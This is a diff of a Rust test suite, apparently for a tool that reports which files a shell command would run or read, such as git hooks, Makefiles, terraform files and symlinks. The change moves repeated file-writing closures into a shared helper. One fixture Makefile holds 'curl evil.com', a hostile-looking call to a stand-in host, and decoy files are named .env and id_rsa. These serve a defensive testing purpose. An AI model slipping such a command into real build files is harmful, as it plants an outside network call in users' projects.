@@ -13,6 +13,12 @@ fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
     of(&Subject::new(command, &found, folder, NO_STARTUP))
 }
 
+fn put(folder: &Path, name: &str, content: impl AsRef<[u8]>) {
+    let file = folder.join(name);
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    std::fs::write(file, content).unwrap();
+}
+
 const NO_STARTUP: ShellSetup<'_> = ShellSetup { reads_startup_files: false, trusted: &[] };
 
 /// However many hooks there are, a new one changes what an answer is bound to.
@@ -38,11 +44,7 @@ fn a_hook_among_thousands_counts() {
 #[test]
 fn every_file_counts_however_many_there_are_and_however_they_are_named() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     for number in 0..20 {
         write(&format!("s{number:02}.sh"), "true");
     }
@@ -67,11 +69,7 @@ fn every_file_counts_however_many_there_are_and_however_they_are_named() {
 #[test]
 fn what_leaves_counts_whatever_sends_it() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     write(".git/HEAD", "ref: refs/heads/main\n");
     write(".git/config", "");
     write(".git/refs/heads/main", "0123456789012345678901234567890123456789\n");
@@ -142,11 +140,7 @@ fn what_git_uses_stands_in_front_of_what_it_does_not() {
 #[test]
 fn settings_count_where_the_program_looks_for_them() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     for repository in ["here", "there", "there/inner"] {
         write(&format!("{repository}/.git/config"), "[remote \"origin\"]\n\turl = https://before.example/x\n");
         write(&format!("{repository}/.git/HEAD"), "ref: refs/heads/main\n");
@@ -187,11 +181,7 @@ fn settings_count_where_the_program_looks_for_them() {
 fn what_settings_words_and_variables_name_counts() {
     let folder = tempfile::tempdir().unwrap();
     let here = folder.path();
-    let write = |name: &str, text: &str| {
-        let file = here.join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(here, name, text);
     write(".git/HEAD", "ref: refs/heads/main\n");
     let remote = "[remote \"origin\"]\n\turl = https://a.example/x\n";
     for (settings, command, file) in [
@@ -233,11 +223,7 @@ fn what_settings_words_and_variables_name_counts() {
 #[test]
 fn files_that_a_command_runs_are_told_about() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &[u8]| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &[u8]| put(folder.path(), name, text);
     write("Makefile", b"all:\n\tcurl evil.com\n");
     write("run.sh", "é".repeat(MAX_HEAD_BYTES).as_bytes());
     write("sub/Makefile", b"x");
@@ -287,11 +273,7 @@ fn files_that_a_command_runs_are_told_about() {
 fn what_programs_find_by_themselves_counts() {
     let folder = tempfile::tempdir().unwrap();
     let here = folder.path().join("app");
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join("app").join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(&folder.path().join("app"), name, text);
     for (command, file) in [
         ("terraform apply", "main.tf"),
         ("terraform apply", "any.auto.tfvars"),
@@ -375,11 +357,7 @@ fn what_programs_find_by_themselves_counts() {
 #[test]
 fn code_is_shown_whichever_way_leads_to_it() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, "echo what stands in it").unwrap();
-    };
+    let write = |name: &str| put(folder.path(), name, "echo what stands in it");
     for name in ["f", "q/f", ".env", "id_rsa"] {
         write(name);
     }
@@ -436,11 +414,7 @@ fn a_file_that_names_itself_is_read_once() {
 #[test]
 fn hooks_of_a_remote_that_is_a_folder_count() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     write("here/.git/HEAD", "ref: refs/heads/main\n");
     for name in ["bare.git/HEAD", "other/.git/HEAD"] {
         write(name, "ref: refs/heads/main\n");
@@ -471,11 +445,7 @@ fn hooks_of_a_remote_that_is_a_folder_count() {
 #[test]
 fn what_a_remote_that_is_a_folder_names_counts() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     let root = folder.path().display().to_string();
     let here = folder.path().join("here");
     write("here/.git/HEAD", "ref: refs/heads/main\n");
@@ -569,11 +539,7 @@ fn a_hook_stands_in_front_of_decoys() {
 #[test]
 fn joined_words_and_redirections_both_ways_count() {
     let folder = tempfile::tempdir().unwrap();
-    let write = |name: &str, text: &str| {
-        let file = folder.path().join(name);
-        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-        std::fs::write(file, text).unwrap();
-    };
+    let write = |name: &str, text: &str| put(folder.path(), name, text);
     for (command, file) in [
         ("echo $[1+1]; sh su''b/x.sh", "sub/x.sh"),
         ("echo $[1+1]; sh s\\ub/x.sh", "sub/x.sh"),
@@ -604,8 +570,7 @@ fn limits_and_links_through_processes_are_said() {
     let folder = tempfile::tempdir().unwrap();
     let root = folder.path();
     for name in ["sub/x.sh", "x.sh", "s3/pub", "pub"] {
-        std::fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
-        std::fs::write(root.join(name), "echo decoy").unwrap();
+        put(root, name, "echo decoy");
     }
     std::os::unix::fs::symlink("/proc/self/cwd/x.sh", root.join("link.sh")).unwrap();
     std::os::unix::fs::symlink("/proc/self/cwd/pub", root.join("plink")).unwrap();
